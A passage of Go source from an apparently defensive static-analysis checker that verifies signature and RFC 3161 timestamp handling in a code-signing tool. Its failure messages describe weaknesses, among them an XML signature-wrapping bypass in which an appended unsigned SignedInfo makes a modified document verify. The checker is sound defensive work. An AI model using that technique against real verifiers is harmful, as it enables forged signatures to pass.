		if s, ok := constString(sel.Common().Args[1]); !ok || s != "SignedInfo" {
			return false
		}
		return (bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)
	}}
	okGuard := true
	for _, r := range p.successReturns(ver) {
		if missing, _ := p.unguardedFromEntry(ver, r, unique); len(missing) > 0 {
			okGuard = false
		}
	}
	// alternative: the struct is parsed from the very element that is hashed
	okSame := false
	var hashed ssa.Value
	for _, ci := range p.callsIn(ver, "lib/xmldsig.hashCanon") {
		if call, _ := resultOf(ci.Common().Args[0]); call != nil && strings.HasSuffix(p.calleeName(call.Common()), "etree.Element).SelectElement") {
			hashed = ci.Common().Args[0]
		}
	}
	for _, ci := range p.callsIn(ver, "encoding/xml.Unmarshal") {
		if hashed != nil && dependsOn(ci.Common().Args[0], func(x ssa.Value) bool { return x == hashed }) {
			okSame = true
		}
	}
	c.Check(okGuard || okSame, "R02j", "xmldsig.Verify binds the parsed reference to the hashed SignedInfo", p.Pos(ver.Pos()), map[bool]string{true: "exactly one SignedInfo is required", false: "struct parsed from the hashed element"}[okGuard],
		"Verify checks the signature over one SignedInfo element but reads digest method, transforms and DigestValue from a parse of the whole Signature, where a repeated SignedInfo overrides the first, and nothing requires the Signature to have exactly one: an appended unsigned SignedInfo carrying the digest of a modified document makes that document verify")
}

func isPrimCall(isPrim func(*ssa.Call) (string, bool), c *ssa.Call) bool {
	_, ok := isPrim(c)
	return ok
}

// ------------------------------------------------------------------------------ R02r

// c02SwitchOffExceptions: call sites that pass a constant which turns a digest comparison off, read and reasoned.
var c02SwitchOffExceptions = map[string]string{}

// c02ConstantSwitchOff (R02r): a digest comparison may be skipped because the user asked for it
// (--no-digests travels as a variable); no call site in verifier code may skip it with a CONSTANT:
// with the constant arguments of one call applied to the callee (positional booleans and nils, and
// the fields of a parameter-struct literal, a field left out being its zero value), every digest
// comparison and every call towards one that the callee can reach in general stays reachable.
func c02ConstantSwitchOff(c *Ctx, all map[*ssa.Function]bool, sites []cmpSite) {
	p := c.P
	c.Rule("R02r", "no call in verifier code turns a digest comparison off with a constant flag (a literal boolean, or a boolean field of a parameter struct left at its zero value)", 3)
	hasSite := map[*ssa.Function][]ssa.Instruction{}
	for _, s := range sites {
		hasSite[s.fn] = append(hasSite[s.fn], s.instr)
	}
	// functions from which a comparison is reached through static calls
	memo := map[*ssa.Function]int{}
	var reaches func(f *ssa.Function) bool
	reaches = func(f *ssa.Function) bool {
		if v, ok := memo[f]; ok {
			return v == 1
		}
		memo[f] = 0
		ok := len(hasSite[f]) > 0
		if !ok {
			for _, ci := range callsOf(f) {
				if g := ci.Common().StaticCallee(); g != nil && g.Blocks != nil && all[g] && reaches(g) {
					ok = true
					break
				}
			}
		}
		if ok {
			memo[f] = 1
		} else {
			memo[f] = 2
		}
		return ok
	}
	var fns []*ssa.Function
	for f := range all {
		fns = append(fns, f)
	}
	sort.Slice(fns, func(i, j int) bool { return p.FName(fns[i]) < p.FName(fns[j]) })
	n := 0
	for _, caller := range fns {
		cnt := map[string]int{}
		for _, ci := range callsOf(caller) {
			F := ci.Common().StaticCallee()
			if F == nil || F.Blocks == nil || !all[F] || !reaches(F) {
				continue
			}
			// targets in F
			var targets []ssa.Instruction
			targets = append(targets, hasSite[F]...)
			for _, c2 := range callsOf(F) {
				if g := c2.Common().StaticCallee(); g != nil && g.Blocks != nil && all[g] && g != F && reaches(g) {
					targets = append(targets, c2)
				}
			}
			if len(targets) == 0 {
				continue
			}
			del := deadEdgesForCall(F, ci)
			if len(del) == 0 {
				continue
			}
			n++
			cnt[p.FName(F)]++
			key := fmt.Sprintf("%s call of %s#%d", p.FName(caller), p.FName(F), cnt[p.FName(F)])
			plain := reach(F, []*ssa.BasicBlock{F.Blocks[0]}, nil, nil)
			with := reach(F, []*ssa.BasicBlock{F.Blocks[0]}, del, nil)
			bad := ""
			for _, t := range targets {
				if plain[t.Block().Index] && !with[t.Block().Index] {
					bad = p.Pos(t.Pos())
				}
			}
			if why, ok := c02SwitchOffExceptions[key]; ok && bad != "" {
				c.PassTrivial("R02r", key, p.Pos(ci.Pos()), "exception: "+why)
				continue
			}
			c.Check(bad == "", "R02r", key, p.Pos(ci.Pos()), "the constants passed leave every digest comparison reachable",
				"the constant arguments of this call make a digest comparison of the callee (or the call towards it, at "+bad+") unreachable: for this caller the digests are never compared, whatever the user asked for")
		}
	}
	c.Note("R02r: %d calls with constant arguments into functions that lead to a digest comparison", n)
}

// deadEdgesForCall: the If edges of F that cannot be taken when F is entered through call: facts
// on a parameter, or on a field of a parameter struct, whose value at this call is a constant.
func deadEdgesForCall(F *ssa.Function, call ssa.CallInstruction) map[edge]bool {
	del := map[edge]bool{}
	constOf := func(v ssa.Value) (*ssa.Const, bool) {
		pi, path, ok := inputOf(F, v)
		if !ok {
			return nil, false
		}
		if len(path) == 0 {
			if pi < len(call.Common().Args) {
				k, isK := call.Common().Args[pi].(*ssa.Const)
				return k, isK
			}
			return nil, false
		}
		// a struct literal: a field that is stored once holds that value, a field never stored is zero
		if pi >= len(call.Common().Args) {
			return nil, false
		}
		arg := call.Common().Args[pi]
		if k, isK := arg.(*ssa.Const); isK && k.Value == nil {
			// T{}: the zero value of the whole struct
			return zeroConstOf(v.Type()), true
		}
		var lit *ssa.Alloc
		if l, ok := arg.(*ssa.UnOp); ok && l.Op == token.MUL {
			lit, _ = l.X.(*ssa.Alloc)
		} else if a, ok := arg.(*ssa.Alloc); ok {
			lit = a
		}
		if lit == nil || len(path) != 1 || allocEscapes(lit) && arg == ssa.Value(lit) {
			return nil, false
		}
		// the literal must be filled by field stores only (no whole-struct store from elsewhere)
		nStores := 0
		var val ssa.Value
		for _, r := range *lit.Referrers() {
			switch x := r.(type) {
			case *ssa.Store:
				if x.Addr == ssa.Value(lit) {
					return nil, false
				}
			case *ssa.FieldAddr:
				for _, r2 := range *x.Referrers() {
					if st, ok := r2.(*ssa.Store); ok && st.Addr == ssa.Value(x) && x.Field == path[0] {
						nStores++
						val = st.Val
					}
				}
			}
		}
		if nStores == 0 {
			return zeroConstOf(v.Type()), true
		}
		if nStores == 1 {
			k, isK := val.(*ssa.Const)
			return k, isK
		}
		return nil, false
	}
	for _, b := range F.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		for si, truth := range []bool{true, false} {
			for _, f := range factsOf(ifi.Cond, truth) {
				k, ok := constOf(f.V)
				if !ok || k == nil {
					continue
				}
				// flags only: a nil content / key / plist argument says "not supplied", which legitimately
				// leaves the comparison against it out
				if _, isB := boolConst(k); !isB {
					continue
				}
				infeasible := false
				switch f.Kind {
				case NonNil:
					infeasible = k.IsNil()
				case IsNil:
					infeasible = !k.IsNil() && k.Value == nil
				case IsTrue:
					if bv, ok := boolConst(k); ok {
						infeasible = !bv
					}
				case IsFalse:
					if bv, ok := boolConst(k); ok {
						infeasible = bv
					}
				}
				if infeasible {
					del[edge{b.Index, si}] = true
				}
			}
		}
	}
	return del
}

func zeroConstOf(t types.Type) *ssa.Const {
	if isBool(t) {
		return ssa.NewConst(constant.MakeBool(false), t)
	}
	switch t.Underlying().(type) {
	case *types.Pointer, *types.Slice, *types.Map, *types.Interface, *types.Signature, *types.Chan:
		return ssa.NewConst(nil, t)
	}
	return nil
}
