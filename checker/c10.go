package main

// C10 — only genuine, matching timestamps are attached and they govern validity time.

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C10",
		Meta: propMeta{
			Explanation: "Decides that every acceptance conjunct and every consumer-side check of the timestamp protocol is on every path: (R10a) ParseResponse succeeds only after a clean ASN.1 parse with no trailing bytes, a granted status and SanityCheckToken==nil; SanityCheckToken succeeds only after the token's signature verified, the nonce compared equal and the imprint hmac.Equal to the request's; the client's RFC 3161 path returns only what ParseResponse of this request's message returned, after an HTTP 200; requests carry a fresh nonce and the caller's imprint; (R10b) at every consumer call of Timestamper.Timestamp (pass-through middlewares excepted) the function can succeed only after a verification primitive (pkcs9.Verify / VerifyTimestamp / the PKCS#7 self-check after attaching) was applied to that token and to the very signature value that was sent; (R10c) errors of Timestamp / TimestampAndMarshal are never dropped and their failure edges reach no success return, and what signinit.Init stores into cert.Timestamper is a boxed value or the result of a helper none of whose returns pairs a possibly-nil timestamper with a possibly-nil error; signinit.Init cannot succeed without installing a Timestamper when the key configuration asks for one; (R10d) the client tries the configured URLs in order inside a loop, a failure reaches the next attempt unless the caller's context ended, success returns the token of the successful attempt, and exhaustion returns a non-nil error; (R10e) CounterSignature values are built only by finishVerify / VerifyMicrosoftToken after the counter-signer's signature verified and the imprint / content was compared with the parent signature value passed in by the caller; (R10f) chains are judged at the attested time: TimestampedSignature.VerifyChain passes the counter-signature's SigningTime, only after the counter-signature's own chain verified; (R10g) functions of lib/pkcs7 and lib/pkcs9 that yield a time.Time never read SignerInfo.UnauthenticatedAttributes, and TimestampAndMarshal runs its self-check (Verify + VerifyOptionalTimestamp on that result) only after the token was attached; in R10d the context whose end may stop the failover must be the caller's own, not one this function wrapped with a deadline. (R10h) TimestampAndMarshal hands to AddStampToSignedData / AddStampToSignedAuthenticode an address reached from its SignedData parameter through fields and elements only, never a local copy, so the caller's structure carries the token; (R10i) the HTTP client of lib/pkcs9/tsclient sets Client.Timeout (or builds its requests with a deadline context): the whole exchange is bounded and a stalling authority leads to the next one; (R10k) every success return of Config.GetKey is a lookup in Config.Keys (the entry itself, for an alias the target's) and no function stores into KeyConfig.Timestamp / Timestamper: whether Init installs a timestamper is decided by the configured key; (R10j) no function reachable from a VerifyChain method touches a package-level sync.Map or a package-level map that is written anywhere: the verdict for one judging time is not reused for another.",
			NotDecided:  "RFC 3161 semantics inside encoding/asn1, network hangs/timeouts, rate limiting, and whether the legacy Microsoft authority's reply is genuine before the consumer-side check.",
			Assumptions: []string{"hmac.Equal/bytes.Equal/(*big.Int).Cmp compare what they are given"},
		},
		Run: runC10,
	})
}

func runC10(c *Ctx) {
	c.Rule("R10a", "ParseResponse/SanityCheckToken/tsClient.do accept a reply only after every conjunct (parse, no trailing bytes, granted, token signature, nonce, imprint, HTTP 200)", 9)
	c.Rule("R10b", "a function that obtains a token from Timestamper.Timestamp succeeds only after verifying that token against the signature value it sent", 5)
	c.Rule("R10c", "timestamping failures are never swallowed; a configured timestamper is always installed", 12)
	defer c10Attested(c)
	c.Rule("R10d", "ordered failover: attempts in a loop over the configured URLs; failure continues unless the context ended; exhaustion is an error", 4)
	c.Rule("R10e", "counter-signatures are constructed only after signature and imprint checks against the parent signature value", 6)
	c.Rule("R10f", "chain validation uses the attested time, after the timestamp's own chain verified", 3)
	c10Accept(c)
	c10Consumers(c)
	c10Swallow(c)
	c10Failover(c)
	c10VerifySide(c)
	c10Round3(c)
}

// statusGranted: an If edge implying Status <= GrantedWithMods (1).
func statusGrantedGuard(p *Prog) Guard {
	return Guard{Name: "Status<=GrantedWithMods", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		_, fld, _ := p.fieldLoad(bo.X)
		k, isK := constInt(bo.Y)
		if fld != "Status" || !isK {
			return false
		}
		t := f.Kind == IsTrue
		switch bo.Op {
		case token.GTR:
			return !t && k <= 1
		case token.GEQ:
			return !t && k <= 2
		case token.LEQ:
			return t && k <= 1
		case token.LSS:
			return t && k <= 2
		case token.EQL:
			return t && (k == 0 || k == 1)
		}
		return false
	}}
}

func lenZeroGuard(p *Prog, what string, isX func(ssa.Value) bool) Guard {
	return Guard{Name: "len(" + what + ")==0", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok || !isIntConst(bo.Y, 0) {
			return false
		}
		call, ok := bo.X.(*ssa.Call)
		if !ok {
			return false
		}
		bi, ok := call.Call.Value.(*ssa.Builtin)
		if !ok || bi.Name() != "len" || !isX(call.Call.Args[0]) {
			return false
		}
		return (bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse) || (bo.Op == token.GTR && f.Kind == IsFalse)
	}}
}

func c10Accept(c *Ctx) {
	p := c.P
	const r = "R10a"
	if fn := p.Func("lib/pkcs9.(*TimeStampReq).ParseResponse"); fn == nil {
		c.Undecided(r, "(*TimeStampReq).ParseResponse", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		um := p.callGuard("asn1.Unmarshal err==nil", []string{"encoding/asn1.Unmarshal", "encoding/asn1.UnmarshalWithParams"}, 1, IsNil, nil)
		rest := lenZeroGuard(p, "rest", func(v ssa.Value) bool {
			call, idx := resultOf(v)
			return call != nil && idx == 0 && p.calleeName(call.Common()) == "encoding/asn1.Unmarshal"
		})
		sane := p.callGuard("SanityCheckToken()==nil", []string{"(*lib/pkcs9.TimeStampReq).SanityCheckToken"}, -1, IsNil, func(ci ssa.CallInstruction) bool {
			// on this request (receiver) and this response's token
			return ci.Common().Args[0] == fn.Params[0]
		})
		granted := statusGrantedGuard(p)
		n := 0
		for _, ret := range p.successReturns(fn) {
			n++
			missing, path := p.unguardedFromEntry(fn, ret, um, rest, granted, sane)
			c.Check(len(missing) == 0, r, fmt.Sprintf("%s success-return#%d", p.FName(fn), n), p.Pos(ret.Pos()), "accepted only after parse, no trailing bytes, granted status, sanity check", fmt.Sprintf("a timestamp reply is accepted without %v", missing), path...)
		}
		c.Check(n > 0, r, p.FName(fn)+" has success", p.Pos(fn.Pos()), "", "no success return")
	}
	if fn := p.Func("lib/pkcs9.(*TimeStampReq).SanityCheckToken"); fn == nil {
		c.Undecided(r, "(*TimeStampReq).SanityCheckToken", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		sig := p.callGuard("token signature verifies", []string{"(*lib/pkcs7.SignedData).Verify"}, 1, IsNil, nil)
		fromReq := func(field string) func(ssa.Value) bool {
			return func(v ssa.Value) bool {
				return dependsOn(v, func(x ssa.Value) bool {
					_, f, base := p.fieldAddr(x)
					if f != field {
						_, f, base = p.fieldLoad(x)
					}
					return f == field && base != nil && dependsOn(base, func(y ssa.Value) bool { return y == fn.Params[0] })
				})
			}
		}
		fromInfo := func(field string) func(ssa.Value) bool {
			return func(v ssa.Value) bool {
				return dependsOn(v, func(x ssa.Value) bool {
					_, f, base := p.fieldAddr(x)
					if f != field {
						_, f, base = p.fieldLoad(x)
					}
					if f != field || base == nil {
						return false
					}
					return dependsOn(base, func(y ssa.Value) bool {
						call, _ := resultOf(y)
						return call != nil && p.calleeName(call.Common()) == "lib/pkcs9.unpackTokenInfo"
					})
				})
			}
		}
		nonce := Guard{Name: "nonce equal", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok || !isIntConst(bo.Y, 0) {
				return false
			}
			if !((bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)) {
				return false
			}
			call, ok := bo.X.(*ssa.Call)
			if !ok || p.calleeName(call.Common()) != "(*math/big.Int).Cmp" {
				return false
			}
			a, b := call.Call.Args[0], call.Call.Args[1]
			return (fromReq("Nonce")(a) && fromInfo("Nonce")(b)) || (fromReq("Nonce")(b) && fromInfo("Nonce")(a))
		}}
		imprint := p.callGuard("imprint equal", []string{"crypto/hmac.Equal", "bytes.Equal", "crypto/subtle.ConstantTimeCompare"}, -1, IsTrue, func(ci ssa.CallInstruction) bool {
			a, b := ci.Common().Args[0], ci.Common().Args[1]
			return (fromReq("HashedMessage")(a) && fromInfo("HashedMessage")(b)) || (fromReq("HashedMessage")(b) && fromInfo("HashedMessage")(a))
		})
		info := p.callGuard("unpackTokenInfo err==nil", []string{"lib/pkcs9.unpackTokenInfo"}, 1, IsNil, func(ci ssa.CallInstruction) bool {
			return len(fn.Params) > 1 && ci.Common().Args[0] == fn.Params[1]
		})
		n := 0
		for _, ret := range p.successReturns(fn) {
			n++
			missing, path := p.unguardedFromEntry(fn, ret, sig, info, nonce, imprint)
			c.Check(len(missing) == 0, r, fmt.Sprintf("%s success-return#%d", p.FName(fn), n), p.Pos(ret.Pos()), "token sane only if signature verifies, nonce echoed, imprint equal", fmt.Sprintf("a token passes the sanity check without %v", missing), path...)
		}
		// the signature check is on the token passed in
		for _, ci := range p.callsIn(fn, "(*lib/pkcs7.SignedData).Verify") {
			ok := len(fn.Params) > 1 && dependsOn(ci.Common().Args[0], func(x ssa.Value) bool { return x == fn.Params[1] })
			c.Check(ok, r, p.FName(fn)+" verifies the token it was given", p.Pos(ci.Pos()), "", "signature check is not applied to the token under test")
		}
	}
	if fn := p.Func("lib/pkcs9.NewRequest"); fn == nil {
		c.Undecided(r, "pkcs9.NewRequest", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		okNonce, okImprint := false, false
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				_, f, _ := p.fieldAddr(st.Addr)
				if f == "Nonce" {
					call, _ := resultOf(st.Val)
					okNonce = call != nil && p.calleeName(call.Common()) == "lib/x509tools.MakeSerial"
				}
				if f == "HashedMessage" && len(fn.Params) >= 3 && st.Val == fn.Params[2] {
					okImprint = true
				}
			}
		}
		c.Check(okNonce, r, p.FName(fn)+" fresh nonce", p.Pos(fn.Pos()), "Nonce: MakeSerial()", "the request nonce is not a fresh random serial (replayed replies would be accepted)")
		c.Check(okImprint, r, p.FName(fn)+" imprint from caller", p.Pos(fn.Pos()), "HashedMessage: hashValue", "the request imprint is not the caller's digest")
	}
	if fn := c10AttemptFn(p); fn == nil {
		c.Undecided(r, "tsClient.do", "-", "no function of lib/pkcs9/tsclient sends the HTTP request ((*http.Client).Do)")
	} else {
		c.Analysed(p.FName(fn))
		doOK := p.callGuard("HTTP Do err==nil", []string{"(*net/http.Client).Do"}, 1, IsNil, nil)
		readOK := p.callGuard("ReadAll err==nil", []string{"io.ReadAll", "io/ioutil.ReadAll"}, 1, IsNil, nil)
		st200 := Guard{Name: "StatusCode==200", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok {
				return false
			}
			_, fld, _ := p.fieldLoad(bo.X)
			k, isK := constInt(bo.Y)
			if fld != "StatusCode" || !isK || k != 200 {
				return false
			}
			return (bo.Op == token.NEQ && f.Kind == IsFalse) || (bo.Op == token.EQL && f.Kind == IsTrue)
		}}
		legacy := Guard{Name: "req.Legacy==true", Match: func(f Fact) bool {
			_, fld, _ := p.fieldLoad(f.V)
			return fld == "Legacy" && f.Kind == IsTrue
		}}
		n := 0
		for _, ret := range p.successReturns(fn) {
			n++
			key := fmt.Sprintf("%s success-return#%d", p.FName(fn), n)
			call, idx := resultOf(retVal(ret, 0))
			name := ""
			if call != nil {
				name = p.calleeName(call.Common())
			}
			switch name {
			case "(*lib/pkcs9.TimeStampReq).ParseResponse":
				missing, path := p.unguardedFromEntry(fn, ret, doOK, readOK, st200)
				// receiver is this request's message, body is this response's body
				recvOK := dependsOn(call.Common().Args[0], func(x ssa.Value) bool {
					cc, i := resultOf(x)
					return cc != nil && i == 0 && p.calleeName(cc.Common()) == "lib/pkcs9.NewRequest"
				})
				bodyOK := dependsOn(call.Common().Args[1], func(x ssa.Value) bool {
					cc, i := resultOf(x)
					return cc != nil && i == 0 && (p.calleeName(cc.Common()) == "io.ReadAll" || p.calleeName(cc.Common()) == "io/ioutil.ReadAll")
				})
				c.Check(len(missing) == 0 && recvOK && bodyOK && idx == 0, r, key, p.Pos(ret.Pos()), "returns ParseResponse(body) of this request after HTTP 200", fmt.Sprintf("RFC 3161 reply accepted without %v (request-bound: %v, body-bound: %v)", missing, recvOK, bodyOK), path...)
			case "lib/pkcs9.ParseLegacyResponse":
				missing, path := p.unguardedFromEntry(fn, ret, doOK, readOK, st200, legacy)
				c.Check(len(missing) == 0, r, key, p.Pos(ret.Pos()), "legacy parser only for legacy requests, after HTTP 200", fmt.Sprintf("legacy (unchecked) reply parser used without %v", missing), path...)
			default:
				c.Fail(r, key, p.Pos(ret.Pos()), "tsClient.do returns a token that did not come from ParseResponse / ParseLegacyResponse: "+name)
			}
		}
		c.Check(n >= 2, r, p.FName(fn)+" success returns", p.Pos(fn.Pos()), "", "expected the RFC 3161 and the legacy return")
	}
}

// tokenVerifiers: callee -> (index of token argument, index of signature-value argument; -1 = n/a)
var tokenVerifiers = map[string][2]int{
	"lib/pkcs9.Verify":                               {0, 1},
	"lib/appmanifest.VerifyTimestamp":                {0, 1},
	"lib/pkcs9.VerifyMicrosoftToken":                 {0, 1},
	"(*lib/appmanifest.SignedManifest).AddTimestamp": {1, -1}, // verifies internally against m.EncryptedDigest (checked separately)
}

func c10Consumers(c *Ctx) {
	p := c.P
	const r = "R10b"
	iface := p.ifaceNamed("lib/pkcs9", "Timestamper")
	if iface == nil {
		c.Undecided(r, "pkcs9.Timestamper", "-", "interface not found")
		return
	}
	isImpl := map[*ssa.Function]bool{}
	for _, t := range p.implementersOf(iface) {
		if f := p.methodOf(t, "Timestamp"); f != nil {
			isImpl[f] = true
		}
	}
	nSites := 0
	for _, fn := range p.Funcs {
		for i, site := range p.callsIn(fn, "(lib/pkcs9.Timestamper).Timestamp") {
			call, ok := site.(*ssa.Call)
			if !ok {
				continue
			}
			nSites++
			fname := p.FName(fn)
			key := fmt.Sprintf("%s Timestamp#%d", fname, i+1)
			c.Analysed(fname)
			if isImpl[fn] {
				// middleware: must hand the inner result back unchanged or fail
				c.PassTrivial(r, key+" (middleware)", p.Pos(call.Pos()), "Timestamper implementation delegating to an inner Timestamper")
				continue
			}
			var tok, terr ssa.Value
			for _, ref := range *call.Referrers() {
				if e, ok := ref.(*ssa.Extract); ok {
					if e.Index == 0 {
						tok = e
					} else {
						terr = e
					}
				}
			}
			if tok == nil {
				c.Fail(r, key, p.Pos(call.Pos()), "token discarded")
				continue
			}
			// the signature value sent: Request.EncryptedDigest
			var sent ssa.Value
			dependsOn(call.Call.Args[1], func(x ssa.Value) bool { return false })
			if a, ok := call.Call.Args[1].(*ssa.Alloc); ok {
				for _, ref := range *a.Referrers() {
					if fa, ok := ref.(*ssa.FieldAddr); ok {
						if _, f, _ := p.fieldAddr(fa); f == "EncryptedDigest" {
							for _, r2 := range *fa.Referrers() {
								if st, ok := r2.(*ssa.Store); ok {
									sent = st.Val
								}
							}
						}
					}
				}
			}
			sameSent := func(v ssa.Value) bool {
				if sent == nil {
					return false
				}
				if v == sent {
					return true
				}
				k1, k2 := p.memKey(v), p.memKey(sent)
				return k1 != "" && k1 == k2
			}
			fromTok := func(v ssa.Value) bool { return dependsOn(v, func(x ssa.Value) bool { return x == tok }) }
			verified := Guard{Name: "token verified against the signature value sent", Match: func(f Fact) bool {
				if f.Kind != IsNil {
					return false
				}
				vc, idx := resultOf(f.V)
				if vc == nil {
					return false
				}
				name := p.calleeName(vc.Common())
				if spec, ok := tokenVerifiers[name]; ok {
					ei := errResultIndex(vc.Common().Signature())
					if !(idx == ei || (idx < 0 && ei == 0)) {
						return false
					}
					args := vc.Common().Args
					if !fromTok(args[spec[0]]) {
						return false
					}
					if spec[1] >= 0 && !sameSent(args[spec[1]]) {
						return false
					}
					return true
				}
				// PKCS#7 self-check after the token was attached to the SignerInfo whose
				// EncryptedDigest was sent
				if name == "lib/pkcs9.VerifyOptionalTimestamp" && idx == 1 {
					return true
				}
				return false
			}}
			del := passEdges(fn, verified)
			if terr != nil {
				for e := range passEdges(fn, errNonNilGuard(terr)) {
					del[e] = true
				}
			}
			pred := map[int]int{}
			seen := reachAfter(fn, call, del, pred)
			bad := false
			var path []string
			var where string
			for _, ret := range p.successReturns(fn) {
				if seen[ret.Block().Index] || (ret.Block() == call.Block()) {
					bad = true
					path = p.witness(fn, pred, ret.Block().Index)
					where = p.Pos(ret.Pos())
				}
			}
			c.Check(!bad, r, key, p.Pos(call.Pos()), "success only after the token was verified against the signature value that was sent", "the token returned by the Timestamper is attached/returned without a consumer-side check that it is genuine and covers this signature value (success return at "+where+"); a stale cache entry or an unchecked legacy reply would be embedded", path...)
			// PKCS#7 variant: the attach precedes the self-check and uses this token
			if fname == "lib/pkcs9.TimestampAndMarshal" {
				attached := false
				for _, a := range p.callsIn(fn, "lib/pkcs9.AddStampToSignedData", "lib/pkcs9.AddStampToSignedAuthenticode") {
					if fromTok(a.Common().Args[1]) {
						attached = true
					}
					for _, v := range p.callsIn(fn, "lib/pkcs9.VerifyOptionalTimestamp") {
						if reachableAfter(fn, v, a, nil, nil) {
							c.Fail(r, key+" attach-before-check", p.Pos(a.Pos()), "a token is attached after the self-check ran")
						}
					}
				}
				c.Check(attached, r, key+" attaches this token", p.Pos(call.Pos()), "", "the token obtained is not the one attached")
				// the value sent is the SignerInfo's EncryptedDigest
				_, f, _ := p.fieldLoad(sent)
				c.Check(sent != nil && f == "EncryptedDigest", r, key+" sends the signature value", p.Pos(call.Pos()), "Request.EncryptedDigest = signerInfo.EncryptedDigest", "the timestamp request does not carry the signature value")
			}
		}
	}
	c.Check(nSites >= 7, r, "Timestamp call sites", "-", fmt.Sprintf("%d", nSites), fmt.Sprintf("only %d call sites of Timestamper.Timestamp found (expected 7)", nSites))
	// AddTimestamp verifies against the manifest's own signature value
	if fn := p.Func("lib/appmanifest.(*SignedManifest).AddTimestamp"); fn == nil {
		c.Undecided(r, "(*SignedManifest).AddTimestamp", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		g := p.callGuard("VerifyTimestamp(token, m.EncryptedDigest)==nil", []string{"lib/appmanifest.VerifyTimestamp"}, 1, IsNil, func(ci ssa.CallInstruction) bool {
			a := ci.Common().Args
			_, f, base := p.fieldLoad(a[1])
			return a[0] == fn.Params[1] && f == "EncryptedDigest" && base == fn.Params[0]
		})
		for i, ret := range p.successReturns(fn) {
			missing, path := p.unguardedFromEntry(fn, ret, g)
			c.Check(len(missing) == 0, r, fmt.Sprintf("%s success-return#%d", p.FName(fn), i+1), p.Pos(ret.Pos()), "timestamp kept only after VerifyTimestamp on this manifest's signature value", "AddTimestamp succeeds without verifying the token against the manifest's signature value", path...)
		}
		// the signed document is replaced only after verification
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if st, ok := in.(*ssa.Store); ok {
					if t, f, _ := p.fieldAddr(st.Addr); t == "lib/appmanifest.SignedManifest" && f == "Signed" {
						missing, path := p.unguardedFromEntry(fn, st, g)
						c.Check(len(missing) == 0, r, p.FName(fn)+" stores document after check", p.Pos(st.Pos()), "", "the timestamped document replaces the signed one before the token was verified", path...)
					}
				}
			}
		}
	}
}

func c10Swallow(c *Ctx) {
	p := c.P
	const r = "R10c"
	n := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
				if name != "(lib/pkcs9.Timestamper).Timestamp" && name != "lib/pkcs9.TimestampAndMarshal" {
					continue
				}
				n++
				key := fmt.Sprintf("%s %s#%d", p.FName(fn), name, n)
				if errDisposition(ci) == errDropped {
					c.Fail(r, key, p.Pos(ci.Pos()), "timestamping error discarded: the signature would silently go out without a timestamp")
					continue
				}
				call := ci.(*ssa.Call)
				direct := false
				for _, ref := range *call.Referrers() {
					if _, ok := ref.(*ssa.Return); ok {
						direct = true
					}
				}
				if direct {
					c.Pass(r, key, p.Pos(ci.Pos()), "returned directly")
					continue
				}
				ev := errValueOf(ci)
				edges := passEdges(fn, errNonNilGuard(ev))
				var starts []*ssa.BasicBlock
				for e := range edges {
					starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
				}
				// a returned error value (return token, err) is fine; a failure edge reaching a nil return is not
				bad := false
				var path []string
				if len(starts) > 0 {
					pred := map[int]int{}
					seen := reach(fn, starts, nil, pred)
					ei := errResultIndex(fn.Signature)
					for _, ret := range p.successReturns(fn) {
						if ei < 0 || !seen[ret.Block().Index] {
							continue
						}
						// handing the error itself back is propagation, not success
						if dependsOn(retVal(ret, ei), func(x ssa.Value) bool { return x == ev }) {
							continue
						}
						bad = true
						path = p.witness(fn, pred, ret.Block().Index)
					}
				} else {
					// never tested: must flow into a return
					flows := false
					for _, ret := range returnsOf(fn) {
						ei := errResultIndex(fn.Signature)
						if ei >= 0 && dependsOn(retVal(ret, ei), func(x ssa.Value) bool { return x == ev }) {
							flows = true
						}
					}
					bad = !flows
				}
				c.Check(!bad, r, key, p.Pos(ci.Pos()), "failure propagates", "a timestamping failure can end in a success return: the signature is issued without the configured timestamp", path...)
			}
		}
	}
	// signinit.Init installs the timestamper whenever configured
	in := p.Func("internal/signinit.Init")
	if in == nil {
		c.Undecided(r, "signinit.Init", "-", "function not found")
		return
	}
	c.Analysed(p.FName(in))
	var store *ssa.Store
	for _, b := range in.Blocks {
		for _, ins := range b.Instrs {
			if st, ok := ins.(*ssa.Store); ok {
				if t, f, _ := p.fieldAddr(st.Addr); t == certT && f == "Timestamper" {
					store = st
				}
			}
		}
	}
	if store == nil {
		c.Fail(r, "internal/signinit.Init installs timestamper", p.Pos(in.Pos()), "cert.Timestamper is never set: configured timestamps are silently omitted")
		return
	}
	// each way the key configuration can ask for a timestamp (Timestamp==true, Timestamper!="")
	// must lead to the store unless the caller opted out (no-timestamp)
	covered := map[string]bool{}
	var wantsVal func(v ssa.Value, kind FactKind, depth int) bool
	wantsVal = func(v ssa.Value, kind FactKind, depth int) bool {
		if depth > 4 {
			return false
		}
		_, fld, _ := p.fieldLoad(v)
		if fld == "Timestamp" && kind == IsTrue {
			covered["Timestamp"] = true
			return true
		}
		if bo, ok := v.(*ssa.BinOp); ok {
			_, f2, _ := p.fieldLoad(bo.X)
			if f2 == "Timestamper" {
				if s, ok := constString(bo.Y); ok && s == "" {
